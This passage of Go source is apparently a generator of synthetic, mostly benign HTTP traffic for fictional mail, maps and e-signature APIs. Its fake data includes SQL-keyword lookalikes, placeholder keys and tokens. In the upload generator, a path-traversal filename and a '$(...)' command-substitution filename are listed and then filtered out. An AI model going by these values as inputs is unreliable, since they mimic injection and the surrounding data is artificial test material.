}

func (g *h9Gen) bMailCampaign() h9X {
	u := g.mu()
	body := h9JSON(map[string]any{"name": h9Pick(g.r, []string{"BF 2026 -- early access", "Newsletter #42", "Re-engagement: 'We miss you'", "Spring <launch>"}), "list_id": h9Pick(g.r, g.lists), "template_id": "tpl_" + h9ID(g.r, "", 8), "settings": map[string]any{"subject_line": h9Pick(g.r, h9Subjects), "from_name": h9Pick(g.r, h9Companies), "reply_to": u.email, "track": map[string]bool{"opens": true, "clicks": true}}, "schedule_at": "2026-11-27T08:00:00+01:00", "utm": map[string]string{"utm_source": "mailflare", "utm_campaign": "bf-2026"}})
	return h9X{u: u, method: "POST", url: h9Mail + "/v3/campaigns", body: body, status: 201, rbody: fmt.Sprintf(`{"id":"cmp_%s","status":"scheduled"}`, h9ID(g.r, "", 10))}
}

func (g *h9Gen) bMailCampaignList() h9X {
	u := g.mu()
	q := h9Pick(g.r, []string{"status=sent&sort=-sent_at&limit=50", "status=draft&status=scheduled&limit=25", "q=" + h9Q("union OR select") + "&limit=10", "created_after=2026-01-01&fields=id,name,emails_sent&page_size=200", "q=" + h9Q("\"black friday\" -test") + "&limit=20"})
	return h9X{u: u, method: "GET", url: h9Mail + "/v3/campaigns?" + q, status: 200, rbody: fmt.Sprintf(`{"campaigns":[{"id":"cmp_%s","name":"Newsletter #41","status":"sent","emails_sent":%d}],"total_items":%d}`, h9ID(g.r, "", 10), g.r.IntN(50000), g.r.IntN(300))}
}

func (g *h9Gen) bMailReport() h9X {
	u := g.mu()
	id := "cmp_" + h9ID(g.r, "", 10)
	if g.r.IntN(2) == 0 {
		csv := "email,opened,clicked,bounce_reason\nana.obrien@example.net,1,0,\n\"d'souza.ben@example.org\",0,0,\"550 5.1.1 <d'souza.ben@example.org>: Recipient address rejected: User unknown in virtual mailbox table\"\nzoe@example.com,1,1,\n"
		return h9X{u: u, method: "GET", url: h9Mail + "/v3/campaigns/" + id + "/report/export?format=csv", status: 200, rhdr: [][2]string{{"Content-Type", "text/csv"}, {"Content-Disposition", `attachment; filename="report.csv"`}}, rbody: csv}
	}
	return h9X{u: u, method: "GET", url: h9Mail + "/v3/campaigns/" + id + "/report", status: 200, rbody: fmt.Sprintf(`{"id":"%s","opens":{"unique":%d,"rate":0.38},"clicks":{"unique":%d},"bounces":{"hard":3,"soft":11,"last_error":"452 4.2.2 Mailbox full"},"top_links":[{"url":"https://shop.kettle-co.example/new?utm_source=mailflare","clicks":412}]}`, id, g.r.IntN(9000), g.r.IntN(2000))}
}

func (g *h9Gen) bMailSegment() h9X {
	u := g.mu()
	body := h9Pick(g.r, []string{
		`{"name":"Engaged DE/AT","conditions":{"$and":[{"country":{"$in":["DE","AT"]}},{"opens_90d":{"$gte":3}}]}}`,
		`{"name":"Lapsed","conditions":{"last_open":{"$lt":"2026-06-01"},"tags":{"$nin":["vip"]}}}`,
		`{"name":"High value","match":"all","conditions":[{"field":"merge_fields.LTV","op":"gt","value":500},{"field":"status","op":"eq","value":"subscribed"}]}`,
		`{"name":"Select customers","conditions":{"$or":[{"plan":{"$eq":"select"}},{"plan":{"$eq":"union"}}]}}`,
	})
	return h9X{u: u, method: "POST", url: h9Mail + "/v3/segments", body: body, status: 201, rbody: fmt.Sprintf(`{"id":"seg_%s","member_count":%d}`, h9ID(g.r, "", 8), g.r.IntN(9000))}
}

var h9InboundTexts = []string{
	"Hi, please remove me from the list. Thanks!",
	"Can you select only the contacts from the union list and drop the rest? -- Tom",
	"Quick question: the preview shows ${price} instead of the price. Is that a merge tag issue?",
	"I ran `ls -la` in the export folder like you said, only report.csv is there.",
	"Our IT says the bounce is '550 5.1.1 user unknown' -- could you check?",
	"> On Tue, Kettle & Co. wrote:\n> Select your favourite blend\nI'd like the Earl Grey, please :)",
	"Out of office until 02/12. For urgent matters call +44 20 7946 0958.",
	"Loved the <b>spring</b> issue. 2 > 1, the second layout is better.",
	"Traceback of what happened: clicked the link, got a 404, then it worked on retry.",
}

func (g *h9Gen) bMailInbound() h9X {
	u := g.inbound
	f, l := g.name()
	v := url.Values{}
	v.Set("from", fmt.Sprintf("%s %s <reply-%s@example.net>", f, l, h9Hex(g.r, 4)))
	v.Set("to", "replies+"+h9ID(g.r, "", 8)+"@inbound.mailflare.test")
	v.Set("subject", "Re: "+h9Pick(g.r, h9Subjects))
	v.Set("text", h9Pick(g.r, h9InboundTexts))
	v.Set("spam_score", "0.4")
	v.Set("dkim", "{@example.net : pass}")
	v.Set("SPF", "pass")
	return h9X{u: u, method: "POST", url: h9Mail + "/v3/webhooks/inbound?list=" + h9Pick(g.r, g.lists), auth: "-", hdr: [][2]string{{"Content-Type", "application/x-www-form-urlencoded"}, {"X-Mailflare-Signature", "t=1763629200,v1=" + h9Hex(g.r, 32)}}, body: v.Encode(), status: 204}
}

func (g *h9Gen) bMailTestSend() h9X {
	u := g.mu()
	body := h9JSON(map[string]any{"test_emails": []string{u.email, "qa+seed-list@litmus.example"}, "send_type": "html", "merge_data": map[string]string{"first_name": h9Pick(g.r, h9FirstNames), "company": h9Pick(g.r, h9Companies), "note": h9Pick(g.r, h9Notes)}})
	return h9X{u: u, method: "POST", url: h9Mail + "/v3/campaigns/cmp_" + h9ID(g.r, "", 10) + "/actions/test", body: body, status: 202, rbody: `{"queued":2}`}
}

func (g *h9Gen) expiredToken(u *h9User) string {
	return h9Token(`{"alg":"HS256","typ":"JWT","kid":"2026-03-key_1"}`, h9Claims(u, h9Base.Add(-50*time.Hour), h9Base.Add(-50*time.Hour), h9Base.Add(-26*time.Hour), ""))
}

func (g *h9Gen) bMailExpired() h9X {
	u := g.mu()
	return h9X{u: u, method: "GET", url: h9Mail + "/v3/lists?page=1&per_page=50", auth: "Bearer " + g.expiredToken(u), status: 401, rhdr: [][2]string{{"WWW-Authenticate", `Bearer error="invalid_token", error_description="The access token expired"`}}, rbody: `{"error":"invalid_token","message":"token expired"}`}
}

func (g *h9Gen) bMailCORS() h9X {
	u := g.mail[g.r.IntN(3)]
	return h9X{u: u, method: "GET", url: h9Mail + "/v3/account/usage?period=month", hdr: [][2]string{{"Origin", "https://app.mailflare.test"}, {"Referer", "https://app.mailflare.test/dashboard?tab=usage"}, {"Cookie", "mf_sid=" + h9ID(g.r, "", 40) + "; mf_lang=de-AT; mf_theme=dark; _ga=GA1.1.88120331.1762000000"}}, status: 200,
		rhdr:  [][2]string{{"Access-Control-Allow-Origin", "https://app.mailflare.test"}, {"Access-Control-Allow-Credentials", "true"}, {"Vary", "Origin"}},
		rbody: fmt.Sprintf(`{"emails_sent":%d,"plan":"growth","limit":100000}`, g.r.IntN(90000))}
}

func (g *h9Gen) bMailOAuth() h9X {
	u := g.mail[3]
	if g.r.IntN(2) == 0 {
		u = g.mail[6]
	}
	tok := h9ValidToken(u)
	return h9X{u: u, method: "POST", url: h9Mail + "/oauth/token", auth: "Basic " + base64.StdEncoding.EncodeToString([]byte("cli_"+u.sub+":"+"redacted-in-capture")), hdr: [][2]string{{"Content-Type", "application/x-www-form-urlencoded"}}, body: "grant_type=client_credentials&scope=lists%3Aread+campaigns%3Awrite", status: 200,
		rbody: fmt.Sprintf(`{"access_token":"%s","token_type":"Bearer","expires_in":3600,"scope":"lists:read campaigns:write"}`, tok)}
}

func (g *h9Gen) bMailError() h9X {
	u := g.mu()
	switch g.r.IntN(3) {
	case 0:
		return h9X{u: u, method: "POST", url: h9Mail + "/v3/campaigns/cmp_" + h9ID(g.r, "", 10) + "/actions/send", status: 500, rbody: fmt.Sprintf(`{"error":"internal_error","message":"Something went wrong on our side. Please retry; if it persists contact support with the request id.","request_id":"%s"}`, h9UUID(g.r))}
	case 1:
		return h9X{u: u, method: "POST", url: h9Mail + "/v3/templates", body: `{"name":"Broken","html":"<p>Hi {{first_name</p>"}`, status: 422, rbody: `{"error":"template_syntax","message":"Unclosed merge tag '{{first_name' at line 1, column 8","line":1,"column":8}`}
	}
	return h9X{u: u, method: "GET", url: h9Mail + "/v3/lists/lst_missing0001", status: 404, rbody: `{"error":"not_found","message":"List 'lst_missing0001' does not exist or you don't have access"}`}
}

func (g *h9Gen) feature(name string) string {
	lat := 35 + g.r.Float64()*20
	lon := -10 + g.r.Float64()*40
	return h9JSON(map[string]any{"place_id": h9ID(g.r, "pl_", 16), "name": name, "formatted_address": h9Pick(g.r, h9Queries), "location": map[string]float64{"lat": float64(int(lat*1e6)) / 1e6, "lon": float64(int(lon*1e6)) / 1e6}, "confidence": 0.92, "types": []string{"street_address"}})
}

func (g *h9Gen) bMapsGeocode() h9X {
	u := g.gu()
	q := h9Pick(g.r, h9Queries)
	qs := "q=" + h9Q(q) + "&limit=" + h9Pick(g.r, []string{"1", "5", "10"}) + "&lang=" + h9Pick(g.r, []string{"en", "de", "fr", "ja"})
	if g.r.IntN(3) == 0 {
		qs += "&bounds=" + h9Q("-0.51,51.28,0.33,51.69") + "&country=gb,ie"
	}
	return h9X{u: u, method: "GET", url: h9Maps + "/v1/geocode?" + qs, status: 200, rbody: `{"results":[` + g.feature(q) + `],"attribution":"© GeoNav, © OpenStreetMap contributors"}`}
}

func (g *h9Gen) bMapsReverse() h9X {
	u := g.gu()
	return h9X{u: u, method: "GET", url: fmt.Sprintf("%s/v1/reverse?lat=%.6f&lon=%.6f&zoom=18&layers=address,poi", h9Maps, 40+g.r.Float64()*10, -3+g.r.Float64()*20), status: 200, rbody: `{"results":[` + g.feature(h9Pick(g.r, h9Queries)) + `]}`}
}

func (g *h9Gen) bMapsPlaces() h9X {
	u := g.gu()
	cat := h9Pick(g.r, []string{"coffee", "ev_charging", "pharmacy", "bar & grill", "drop-off", "union_office", "select_stores"})
	return h9X{u: u, method: "GET", url: fmt.Sprintf("%s/v1/places/search?query=%s&near=%.5f,%.5f&radius=%d&limit=%d&open_now=true", h9Maps, h9Q(cat), 48+g.r.Float64(), 2+g.r.Float64(), h9Pick(g.r, []int{500, 1500, 5000, 25000}), h9Pick(g.r, []int{10, 20, 50})), status: 200,
		rbody: `{"places":[` + g.feature(h9Pick(g.r, []string{"Joe's \"Famous\" Crab Shack", "Café <Le Select>", "Union Coffee -- Roasters", "O'Malley's Pub & Grill", "Drop Bear Bar", "1=1 Pizza"})) + `],"next_page_token":"` + h9ID(g.r, "", 48) + `"}`}
}

func (g *h9Gen) bMapsPlace() h9X {
	u := g.gu()
	id := h9ID(g.r, "pl_", 16)
	return h9X{u: u, method: "GET", url: h9Maps + "/v1/places/" + id + "?fields=name,opening_hours,reviews", status: 200,
		rbody: h9JSON(map[string]any{"place_id": id, "name": h9Pick(g.r, []string{"Rock'n'Roll Diner", "Bar & Grill <Downtown>", "L'Atelier du Café"}), "opening_hours": "Mo-Fr 07:00-19:00; Sa 08:00-14:00; PH off", "reviews": []map[string]any{{"rating": 5, "text": h9Pick(g.r, []string{"Best fish & chips; the <b>tartare</b> sauce is great!", "Came here after SELECT conference, staff said 'order by the window' -- lovely", "Ordered the \"drop table\" special (a tiny table of desserts) :)", "Wi-Fi password is on the receipt, ask at the bar", "Tip: javascript meetups happen here on Thursdays"})}}})}
}

func (g *h9Gen) bMapsRoute() h9X {
	u := g.gu()
	body := h9JSON(map[string]any{"profile": h9Pick(g.r, []string{"driving-car", "cycling-regular", "foot-hiking", "driving-hgv"}), "waypoints": []map[string]float64{{"lat": 52.52, "lon": 13.405}, {"lat": 52.3906, "lon": 13.0645}}, "options": map[string]any{"avoid": []string{"tolls", "ferries"}, "alternatives": 2, "max_weight": 7.5}, "units": "km", "instructions": true, "language": "de"})
	return h9X{u: u, method: "POST", url: h9Maps + "/v1/routes", body: body, status: 200, rbody: fmt.Sprintf(`{"routes":[{"distance":%d,"duration":%d,"geometry":"%s","legs":[{"steps":[{"instruction":"Turn left onto Straße des 17. Juni","distance":400}]}]}]}`, 20000+g.r.IntN(30000), 1800+g.r.IntN(3000), h9ID(g.r, "", 60))}
}

func (g *h9Gen) bMapsTile() h9X {
	u := g.gu()
	z := 10 + g.r.IntN(8)
	return h9X{u: u, method: "GET", url: fmt.Sprintf("%s/v1/tiles/%d/%d/%d.pbf?style=streets-v2&key=gn_pk_%s", h9Maps, z, g.r.IntN(1<<z), g.r.IntN(1<<z), h9ID(g.r, "", 24)), auth: "-", hdr: [][2]string{{"Origin", "https://www.storefinder.example"}, {"Accept", "application/x-protobuf"}}, status: 200,
		rhdr: [][2]string{{"Content-Type", "application/x-protobuf"}, {"Access-Control-Allow-Origin", "*"}, {"Cache-Control", "public, max-age=86400"}}, rbody: base64.StdEncoding.EncodeToString([]byte("\x1a\x8c\x01\x0a\x05water\x12\x1e\x08\x01\x12\x02\x00\x00\x18\x03\x22\x14\x09\x80\x40\xe8\x3f")), rb64: true}
}

func (g *h9Gen) bMapsProxy() h9X {
	u := g.gu()
	return h9X{u: u, method: "GET", url: h9Maps + "/v1/layers/proxy?url=" + h9Q(h9Pick(g.r, h9PublicURLs)) + "&z=12&x=2200&y=1343&format=png", status: 200, rhdr: [][2]string{{"Content-Type", "image/png"}}, rbody: base64.StdEncoding.EncodeToString([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")), rb64: true}
}

func (g *h9Gen) bMapsCustomPlace() h9X {
	u := g.gu()
	body := h9JSON(map[string]any{"name": h9Pick(g.r, []string{"Joe's \"Famous\" Crab Shack", "Smith & Sons <Hardware>", "Depot #4 (drop-off; rear gate)", "O'Hare Cargo -- Building 7", "Union/Select Lofts", "Bäckerei Müller & Töchter"}), "address": h9Pick(g.r, h9Queries), "location": map[string]float64{"lat": 41.9786, "lon": -87.9048}, "properties": map[string]any{"notes": h9Pick(g.r, h9Notes), "website": h9Pick(g.r, []string{"https://joes-crab.example/?ref=maps&utm=1", "http://smith-hardware.example:8080/", "https://www.facebook.com/UnionSelectLofts/"}), "tags": []string{"depot", "24/7"}}})
	return h9X{u: u, method: "POST", url: h9Maps + "/v1/datasets/ds_" + h9ID(g.r, "", 8) + "/features", body: body, status: 201, rbody: fmt.Sprintf(`{"id":"ft_%s"}`, h9ID(g.r, "", 12))}
}

func (g *h9Gen) bMapsGPX() h9X {
	u := g.gu()
	name := h9Pick(g.r, []string{"Tour de l'Île", "Rock &amp; Roll Ridge", "Loop &lt;easy&gt;", "O'Brien's Trail -- part 2", "Drop Valley Select"})
	xml := `<?xml version="1.0" encoding="UTF-8"?>
<gpx version="1.1" creator="Hikebook 7.2" xmlns="http://www.topografix.com/GPX/1/1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/1/1/gpx.xsd">
  <metadata><name>` + name + `</name><link href="https://hikebook.example/t/` + h9ID(g.r, "", 8) + `"><text>Hikebook</text></link></metadata>
  <trk><name>` + name + `</name><trkseg><trkpt lat="46.5197" lon="6.6323"><ele>372</ele><time>2026-11-19T08:01:00Z</time></trkpt><trkpt lat="46.5201" lon="6.6330"><ele>375</ele></trkpt></trkseg></trk>
</gpx>`
	if g.r.IntN(2) == 0 {
		xml = `<?xml version="1.0" encoding="UTF-8"?>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>` + name + `</name><Placemark><name>Depot &amp; Yard</name><description><![CDATA[<p>Gate code at the <b>office</b>; trucks > 7.5t use the rear gate.</p>]]></description><Point><coordinates>-0.1276,51.5072,0</coordinates></Point></Placemark></Document></kml>`
	}
	return h9X{u: u, method: "POST", url: h9Maps + "/v1/uploads/tracks?format=auto", hdr: [][2]string{{"Content-Type", "application/xml"}}, body: xml, status: 201, rbody: fmt.Sprintf(`{"upload_id":"up_%s","points":2,"status":"processed"}`, h9ID(g.r, "", 10))}
}

func (g *h9Gen) bMapsAutocomplete() h9X {
	u := g.gu()
	text := h9Pick(g.r, []string{"O'H", "Rue de l'", "Union Sq", "select city", "Café <", "St. John's", "1=1 Piz", "drop of", "or", "and"})
	return h9X{u: u, method: "GET", url: h9Maps + "/v1/autocomplete?text=" + h9Q(text) + "&session_token=" + h9UUID(g.r) + "&limit=5", status: 200, rbody: `{"suggestions":[{"text":"` + strings.ReplaceAll(h9Pick(g.r, h9Queries), `"`, `\"`) + `","place_id":"` + h9ID(g.r, "pl_", 16) + `"}]}`}
}

func (g *h9Gen) bMapsMatrix() h9X {
	u := g.gu()
	body := h9JSON(map[string]any{"sources": [][]float64{{13.38, 52.51}, {13.41, 52.52}}, "destinations": [][]float64{{13.45, 52.5}, {13.29, 52.45}, {13.52, 52.42}}, "metrics": []string{"distance", "duration"}, "profile": "driving-car"})
	return h9X{u: u, method: "POST", url: h9Maps + "/v1/matrix", body: body, status: 200, rbody: `{"durations":[[812.4,1302.1,1544.9],[701.3,1402.7,1322.0]],"distances":[[6210,11408,14302],[5127,12001,11893]]}`}
}

func (g *h9Gen) bMapsStyle() h9X {
	u := g.gu()
	body := h9JSON(map[string]any{"version": 8, "name": "Fleet dark", "sources": map[string]any{"partner": map[string]any{"type": "raster", "tiles": []string{h9Pick(g.r, h9PublicURLs)}, "tileSize": 512, "maxzoom": 18}}, "glyphs": "https://fonts.geonav.test/{fontstack}/{range}.pbf", "layers": []map[string]any{{"id": "bg", "type": "background", "paint": map[string]string{"background-color": "#111"}}}})
	return h9X{u: u, method: "POST", url: h9Maps + "/v1/styles", body: body, status: 201, rbody: fmt.Sprintf(`{"style_id":"st_%s"}`, h9ID(g.r, "", 8))}
}

var h9DocHTML = []string{
	`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Engagement letter</title><style>@page{size:A4;margin:2cm}body{font-family:"Helvetica Neue",Arial}.sig{border-bottom:1px solid #000;width:240px;height:40px}</style></head><body><h1>Engagement Letter</h1><p>Between Adeyemi &amp; Partners LLP and {{client.name}} ("the Client").</p><p>Fees: &pound;250/hour; disbursements at cost.</p><div class="sig" data-signer="1" data-field="signature"></div><p>Date: [[date_signed]]</p></body></html>`,
	`<html><body><h2>Mutual NDA</h2><ol><li>"Confidential Information" means any information disclosed by either party, whether oral or written, including but not limited to SELECT customer lists and UNION agreements.</li><li>Term: 2 years; either party may terminate with 30 days' notice.</li></ol><table border="1"><tr><th>Party</th><th>Signature</th></tr><tr><td>{{signer1.name}}</td><td>{{signer1.signature}}</td></tr><tr><td>{{signer2.name}}</td><td>{{signer2.signature}}</td></tr></table></body></html>`,
	`<html><head><link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter:wght@400;700&amp;display=swap"></head><body><img src="https://harbor-realty.example/logo.png" alt="Harbor Realty" width="180"><h1>Lead-Based Paint Disclosure</h1><p>Property: 12 O'Farrell St, Unit 3 &lt;rear&gt;</p><p>Seller's initials: <span class="field" data-type="initials"></span></p><a href="https://www.epa.gov/lead">EPA lead information</a></body></html>`,
	`<html><body><h1>Offer letter</h1><p>Dear {{candidate.first_name}},</p><p>We're pleased to offer you the role of <em>Senior Engineer (Java/Spring)</em>. Your duties include fixing NullPointerException and OutOfMemoryError issues in production &mdash; a real job, we promise.</p><p>Start date: {{start_date | date: "%d %B %Y"}}</p><p>Salary: ${salary} per annum</p></body></html>`,
	`<html><body><h1>Event vendor agreement</h1><p>Vendor will provide catering for 2 &gt; 1 venues; drop-off at the rear door by 07:00.</p><pre>Schedule:
  07:00  drop-off
  08:00  setup; cat &amp; dog-friendly area opens
</pre><p>Signed: ____________ {{vendor.name}}</p></body></html>`,
}

func (g *h9Gen) signer() map[string]any {
	f, l := g.name()
	return map[string]any{"name": f + " " + l, "email": strings.ToLower(strings.NewReplacer("'", "", " ", "", "é", "e", "ë", "e", "ø", "o", "á", "a", "Ó", "o", "ü", "u", "ó", "o").Replace(l)) + "." + h9Hex(g.r, 2) + "@example.com", "routing_order": 1 + g.r.IntN(3), "role": h9Pick(g.r, []string{"signer", "cc", "approver"})}
}

func (g *h9Gen) bSignEnvelope() h9X {
	u := g.su()
	body := h9JSON(map[string]any{"subject": h9Pick(g.r, []string{"Please sign: NDA -- O'Brien & Sons", "Offer letter for {{candidate.first_name}}", "Lease renewal (Unit 3 <rear>)", "Select Comfort MSA v4", "Union contract 2027: final"}), "message": h9Pick(g.r, h9Notes), "documents": []map[string]any{{"document_id": h9UUID(g.r), "name": "NDA - O'Brien & Sons (final).pdf", "order": 1}}, "recipients": map[string]any{"signers": []any{g.signer(), g.signer()}, "carbon_copies": []any{map[string]string{"email": u.email}}}, "status": "sent", "callback_url": h9Pick(g.r, h9CallbackURLs), "reminders": map[string]int{"delay_days": 2, "frequency_days": 3}, "expires_in_days": 30})
	return h9X{u: u, method: "POST", url: h9Sign + "/v2/envelopes", body: body, status: 201, rbody: fmt.Sprintf(`{"envelope_id":"%s","status":"sent","status_changed_at":"2026-11-20T09:12:44Z","uri":"/v2/envelopes/%s"}`, h9Pick(g.r, g.envs), h9Pick(g.r, g.envs))}
}

func (g *h9Gen) bSignList() h9X {
	u := g.su()
	q := h9Pick(g.r, []string{"status=sent&page_size=50", "status=completed&from_date=2026-10-01&page_size=100&order=desc", "search_text=" + h9Q("O'Brien & Sons") + "&page_size=20", "folder=drafts&start_position=100&count=100", "status=sent,delivered&include=recipients&limit=250", "search_text=" + h9Q("Union Square lease -- renewal") + "&count=25"})
	return h9X{u: u, method: "GET", url: h9Sign + "/v2/envelopes?" + q, status: 200, rbody: fmt.Sprintf(`{"envelopes":[{"envelope_id":"%s","subject":"Lease renewal (Unit 3 <rear>)","status":"sent"}],"result_set_size":1,"total_set_size":%d}`, h9Pick(g.r, g.envs), g.r.IntN(400))}
}

func (g *h9Gen) bSignGet() h9X {
	u := g.su()
	env := h9Pick(g.r, g.envs)
	return h9X{u: u, method: "GET", url: h9Sign + "/v2/envelopes/" + env + "?include=recipients,documents,custom_fields", status: 200, rbody: h9JSON(map[string]any{"envelope_id": env, "status": "delivered", "recipients": map[string]any{"signers": []any{g.signer()}}, "documents": []map[string]any{{"document_id": h9UUID(g.r), "name": "Offer letter.pdf", "pages": 3, "document_digest": "sha256:" + h9Hex(g.r, 32)}}, "custom_fields": []map[string]string{{"name": "Matter #", "value": "2026/0" + fmt.Sprint(100+g.r.IntN(800))}, {"name": "Cost centre", "value": "CC-" + fmt.Sprint(1000+g.r.IntN(9000))}}})}
}

func (g *h9Gen) bSignUpload() h9X {
	u := g.su()
	b := "----SDBoundary" + h9Hex(g.r, 8)
	fn := h9Pick(g.r, []string{"NDA - O'Brien & Sons (final).pdf", "Lease_Unit3_<rear>.pdf", "offer; v2 (signed).pdf", "../drafts are in the other folder.pdf", "Mutual NDA [EN] & [FR].pdf", "contract $(final).pdf"})
	if strings.HasPrefix(fn, "../") || strings.Contains(fn, "$(") {
		fn = "Mutual NDA [EN] & [FR].pdf"
	}
	body := "--" + b + "\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\n" + h9Pick(g.r, []string{"Offer letter", "Union contract 2027", "Select Comfort MSA"}) + "\r\n--" + b + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fn + "\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n\r\n--" + b + "--\r\n"
	body = strings.ToValidUTF8(body, "?")
	return h9X{u: u, method: "POST", url: h9Sign + "/v2/documents", hdr: [][2]string{{"Content-Type", "multipart/form-data; boundary=" + b}}, body: body, size: 180000 + g.r.IntN(90000), status: 201, rbody: fmt.Sprintf(`{"document_id":"%s","name":%q,"pages":%d,"document_digest":"sha256:%s"}`, h9UUID(g.r), fn, 1+g.r.IntN(12), h9Hex(g.r, 32))}
}

func (g *h9Gen) bSignRenderURL() h9X {
	u := g.su()
	body := h9JSON(map[string]any{"source_url": h9Pick(g.r, h9RenderURLs), "format": "pdf", "options": map[string]any{"page_size": "A4", "margin_mm": 20, "wait_for": "networkidle", "print_background": true}})
	return h9X{u: u, method: "POST", url: h9Sign + "/v2/documents/render", body: body, status: 202, rbody: fmt.Sprintf(`{"document_id":"%s","status":"rendering"}`, h9UUID(g.r))}
}

func (g *h9Gen) bSignRenderHTML() h9X {
	u := g.su()
	body := h9JSON(map[string]any{"html": h9Pick(g.r, h9DocHTML), "format": "pdf", "merge_data": map[string]string{"client.name": h9Pick(g.r, h9Companies), "candidate.first_name": h9Pick(g.r, h9FirstNames), "salary": "85,000"}, "options": map[string]any{"page_size": "Letter", "header_html": "<div style=\"font-size:8px\">Page <span class=\"pageNumber\"></span> of <span class=\"totalPages\"></span></div>"}})
	return h9X{u: u, method: "POST", url: h9Sign + "/v2/documents/render", body: body, status: 202, rbody: fmt.Sprintf(`{"document_id":"%s","status":"rendering"}`, h9UUID(g.r))}
}

func (g *h9Gen) bSignCallback() h9X {
	u := g.su()
	if g.r.IntN(2) == 0 {
		v := url.Values{}
		v.Set("url", h9Pick(g.r, h9CallbackURLs))
		v.Set("events", "envelope.completed,envelope.declined")
		v.Set("include_documents", "false")
		return h9X{u: u, method: "POST", url: h9Sign + "/v2/accounts/settings/callbacks", hdr: [][2]string{{"Content-Type", "application/x-www-form-urlencoded"}}, body: v.Encode(), status: 200, rbody: `{"updated":true}`}
	}
	body := h9JSON(map[string]any{"url": h9Pick(g.r, h9CallbackURLs), "events": []string{"envelope.completed", "recipient.signed"}, "retry": map[string]int{"max_attempts": 5}})
	return h9X{u: u, method: "PUT", url: h9Sign + "/v2/accounts/settings/callbacks", body: body, status: 200, rbody: `{"updated":true,"verification":"pending"}`}
}

func (g *h9Gen) bSignAudit() h9X {
	u := g.su()
	env := h9Pick(g.r, g.envs)
	return h9X{u: u, method: "GET", url: h9Sign + "/v2/envelopes/" + env + "/audit_events", status: 200, rbody: h9JSON(map[string]any{"events": []map[string]any{
		{"at": "2026-11-19T15:02:11Z", "action": "Sent", "by": u.email, "ip": "203.0.113.12", "ua": "Chrome 131"},
		{"at": "2026-11-19T16:40:03Z", "action": "Viewed", "by": "j.obrien@example.com", "ip": "198.51.100.77"},
		{"at": "2026-11-19T16:44:51Z", "action": "Signed", "by": "j.obrien@example.com", "document_digest": "sha256:" + h9Hex(g.r, 32), "certificate_serial": strings.ToUpper(h9Hex(g.r, 16))},
	}})}
}

func (g *h9Gen) bSignTemplate() h9X {
	u := g.su()
	body := h9JSON(map[string]any{"name": h9Pick(g.r, []string{"Offer letter (EU)", "Lease <standard>", "NDA -- mutual"}), "html": h9Pick(g.r, h9DocHTML), "fields": []map[string]any{{"type": "text", "label": "Employee's full name", "merge": "{{signer.name}}"}, {"type": "date", "label": "Start", "merge": "[[start_date]]", "format": "dd/MM/yyyy"}, {"type": "formula", "label": "Total", "expression": "[Hours] * [Rate]"}}})
	return h9X{u: u, method: "POST", url: h9Sign + "/v2/templates", body: body, status: 201, rbody: fmt.Sprintf(`{"template_id":"%s"}`, h9UUID(g.r))}
}

func (g *h9Gen) bSignVoid() h9X {
	u := g.su()
	reason := h9Pick(g.r, []string{"Client's name misspelt (O'Brien, not OBrien) -- resending", "Wrong version; select v4 instead", "Duplicate of envelope sent 19/11", "Signer asked: 'drop clause 7 or I won't sign'"})
	return h9X{u: u, method: "PUT", url: h9Sign + "/v2/envelopes/" + h9Pick(g.r, g.envs), body: h9JSON(map[string]string{"status": "voided", "voided_reason": reason}), status: 200, rbody: `{"status":"voided"}`}
}

func (g *h9Gen) bSignDownload() h9X {
	u := g.su()
	return h9X{u: u, method: "GET", url: h9Sign + "/v2/envelopes/" + h9Pick(g.r, g.envs) + "/documents/combined?certificate=true&watermark=false", hdr: [][2]string{{"Accept", "application/pdf"}}, status: 200, rhdr: [][2]string{{"Content-Type", "application/pdf"}, {"Content-Disposition", `attachment; filename="completed.pdf"`}}, rbody: base64.StdEncoding.EncodeToString([]byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")), rb64: true}
}

func (g *h9Gen) bSignUploadURL() h9X {
	u := g.su()
	key := h9UUID(g.r)
	return h9X{u: u, method: "POST", url: h9Sign + "/v2/documents/upload_url", body: `{"file_name":"scan.pdf","content_type":"application/pdf"}`, status: 200, rbody: h9JSON(map[string]any{"upload_url": "https://signdesk-uploads.s3.eu-west-1.amazonaws.com/incoming/" + key + ".pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIA4EXAMPLEQ7Z2KM4N%2F20261120%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20261120T090000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=content-type%3Bhost&X-Amz-Signature=" + h9Hex(g.r, 32), "expires_in": 900, "document_id": key})}
}

func (g *h9Gen) bSignPayment() h9X {
	u := g.su()
	return h9X{u: u, method: "GET", url: h9Sign + "/v2/accounts/billing", status: 200, rbody: h9JSON(map[string]any{"plan": "business", "seats": 5 + g.r.IntN(20), "card": map[string]string{"brand": "visa", "last4": "4242", "display": "**** **** **** 4242", "exp": "08/28"}, "stripe": map[string]string{"publishable_key": "pk_live_51Nq" + h9ID(g.r, "", 40), "client_secret": "seti_1QK" + h9ID(g.r, "", 14) + "_secret_" + h9ID(g.r, "", 24)}, "invoices_url": "https://billing.signdesk.test/p/login/" + h9ID(g.r, "", 20)})}
}

func (g *h9Gen) bSignExpired() h9X {
	u := g.su()
	tok := g.expiredToken(u)
	if g.r.IntN(2) == 0 {
		return h9X{u: u, method: "GET", url: h9Sign + "/v2/envelopes?status=sent&page_size=50", auth: "Bearer " + tok, status: 401, rhdr: [][2]string{{"WWW-Authenticate", `Bearer error="invalid_token"`}}, rbody: `{"errorCode":"AUTHORIZATION_INVALID_TOKEN","message":"The access token provided is expired, revoked or malformed."}`}
	}
